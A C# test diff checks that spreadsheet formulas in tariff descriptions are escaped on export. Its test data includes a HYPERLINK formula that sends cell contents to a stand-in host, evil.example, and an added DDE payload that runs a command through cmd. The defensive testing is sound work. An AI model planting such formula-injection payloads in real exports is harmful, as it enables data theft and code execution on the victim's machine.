@@ -104,7 +104,7 @@ public sealed class DataHygieneTests : IDisposable
     public async Task Formulas_in_tariff_descriptions_are_escaped_in_the_export_and_the_export_imports_back_unchanged()
     {
         var admin = await _app.AdminClientAsync();
-        string[] descriptions = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "\tTab", "'quoted", "Poland"];
+        string[] descriptions = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "'quoted", "Poland"]; // (descriptions are trimmed: no leading tab)
         var rates = descriptions.Select((d, i) => new
         {
             prefix = (48 + i).ToString(), description = d, pricePerMinute = 0.1m, connectionFee = 0m, minimumSeconds = 0, incrementSeconds = 1,
